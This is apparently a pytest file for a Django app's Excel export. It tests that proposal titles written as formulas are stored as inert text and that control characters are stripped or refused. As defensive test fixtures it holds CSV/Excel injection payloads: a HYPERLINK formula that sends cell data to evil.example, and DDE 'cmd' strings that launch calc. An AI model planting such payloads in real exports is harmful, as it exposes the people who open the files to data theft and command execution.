"""Excel exports cannot attack the person who opens them (apps.core.xlsx).

- A title written as a formula (=HYPERLINK…, a DDE =cmd|…, @…, +…, -…, a leading tab or CR) is
  an inert string cell in the file: no <f> element, a leading apostrophe, quotePrefix set.
- Signed numbers and phones keep their exact text (quotePrefix only).
- Characters XML cannot carry (U+000B …) are removed instead of the export answering 500.
- The same title is refused when typed into the draft form (StyledForm) or sent to the API.
"""

from __future__ import annotations

import io
import json
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from apps.core.xlsx import (
    xlsx_bytes,
    xlsx_neutralise,
    xlsx_sheet,
    xlsx_sheet_title,
    xlsx_text_cell,
    xlsx_workbook,
)
from apps.proposals.models import Proposal
from tests.proposals import conftest as proposal_fixtures

# The proposals tests' builder, used here too.
build = proposal_fixtures.build
category = proposal_fixtures.category

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看详情")'
DDE = "=cmd|' /C calc'!A0"
VT_TITLE = "关于\x0b托育服务的建议"


def _workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def _one_row(values: list) -> tuple[bytes, list]:
    workbook = xlsx_workbook()
    sheet = xlsx_sheet(workbook, title="测试", headers=["值"] * len(values), widths=[10])
    sheet.append(values)
    content = xlsx_bytes(workbook)
    return content, list(_workbook(content).active[2])


# The module itself ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written", "quoted"),
    [
        (HYPERLINK, "'" + HYPERLINK, True),
        (DDE, "'" + DDE, True),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)", True),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0", True),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", True),
        ("\t=1+1", "'\t=1+1", True),
        ("\r=1+1", "'\r=1+1", True),
        ("+86 158 9526 6909", "+86 158 9526 6909", True),
        ("-3.5", "-3.5", True),
        ("关于=号的建议", "关于=号的建议", False),
        ("#N/A", "#N/A", False),
    ],
)
def test_text_is_neutralised_as_excel_and_wps_keep_it(value, written, quoted):
    assert xlsx_neutralise(value) == (written, quoted)
    content, cells = _one_row([value])
    assert cells[0].value == written
    assert cells[0].data_type == "s"
    assert cells[0].quotePrefix is quoted
    assert "<f>" not in _sheet_xml(content)


def test_numbers_and_dates_keep_their_type():
    import datetime as dt

    _content, cells = _one_row([5, 2.5, dt.date(2026, 3, 1), None, "文本"])
    assert [cell.data_type for cell in cells[:3]] == ["n", "n", "d"]
    assert cells[4].value == "文本" and cells[4].data_type == "s"


def test_characters_xml_cannot_carry_are_removed():
    _content, cells = _one_row([VT_TITLE, "a\x00b\x1fc\ud800d\ufffe", "行一\n行二\t列"])
    assert [cell.value for cell in cells] == ["关于托育服务的建议", "abcd", "行一\n行二\t列"]


def test_text_cells_and_other_sheets_are_safe_too():
    workbook = xlsx_workbook()
    sheet = xlsx_sheet(workbook, title="名册", headers=["证件"], widths=[10])
    sheet.append([xlsx_text_cell(sheet, "=1+1"), xlsx_text_cell(sheet, "3701\x0b02")])
    note = workbook.create_sheet("说明")
    note.append([DDE])
    loaded = _workbook(xlsx_bytes(workbook))
    first, second = loaded["名册"][2]
    assert first.value == "'=1+1" and first.data_type == "s" and first.number_format == "@"
    assert second.value == "370102"
    assert loaded["说明"]["A1"].value == "'" + DDE


def test_sheet_titles_excel_refuses_are_cleaned():
    assert xlsx_sheet_title("2026[一]:季度/汇总?") == "2026 一  季度 汇总"
    assert xlsx_sheet_title("'引号'") == "引号"
    assert len(xlsx_sheet_title("长" * 40) or "") == 31


# The proposal exports --------------------------------------------------------------------------


@pytest.fixture
def hostile(build):
    """Three submitted proposals whose titles attack a spreadsheet or its XML. The services
    refuse the control character now; a row from before that rule (or an import) still has it,
    so it is written straight into the table."""
    from apps.proposals.models import Proposal

    vertical_tab = build.submitted(title="关于托育服务的建议")
    Proposal.objects.filter(pk=vertical_tab.pk).update(title=VT_TITLE)
    return [build.submitted(title=HYPERLINK), build.submitted(title=DDE), vertical_tab]


def _titles_are_inert(content: bytes) -> None:
    xml = _sheet_xml(content)
    assert "<f>" not in xml, "a title became a live formula"
    sheet = _workbook(content).active
    cells = {row[1].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for title in (HYPERLINK, DDE):
        cell = cells["'" + title]
        assert cell.data_type == "s" and cell.quotePrefix
    assert "关于托育服务的建议" in cells


@pytest.mark.django_db
def test_office_export_is_inert(client, hostile, proposal_staff_user):
    client.force_login(proposal_staff_user)
    response = client.get(reverse("proposals:office_export"))
    assert response.status_code == 200
    _titles_are_inert(response.content)


@pytest.mark.django_db
def test_my_proposals_export_is_inert(client, hostile, member_user):
    client.force_login(member_user)
    response = client.get(reverse("proposals:mine_export"))
    assert response.status_code == 200
    _titles_are_inert(response.content)


# … and the control character is refused where it is typed -------------------------------------


@pytest.mark.django_db
def test_draft_form_refuses_a_control_character(client, build, member_user):
    draft = build.draft(title="关于托育服务的建议")
    client.force_login(member_user)
    response = client.post(
        reverse("proposals:edit", args=[draft.pk]),
        {"title": VT_TITLE, "grounds": draft.grounds, "suggestions": draft.suggestions},
    )
    assert response.status_code == 422
    body = response.content.decode()
    assert "“案由”中含有不可见的控制字符" in body
    assert Proposal.objects.get(pk=draft.pk).title == "关于托育服务的建议"


@pytest.mark.django_db
def test_api_refuses_a_control_character(client, member_user):
    client.force_login(member_user)
    response = client.post(
        "/api/v1/proposals/drafts",
        json.dumps({"title": VT_TITLE}),
        content_type="application/json",
    )
    assert response.status_code == 422
    assert re.search("控制字符", response.json()["detail"])
    assert response.json()["errors"][0]["loc"] == ["body", "title"]
    assert not Proposal.objects.exists()
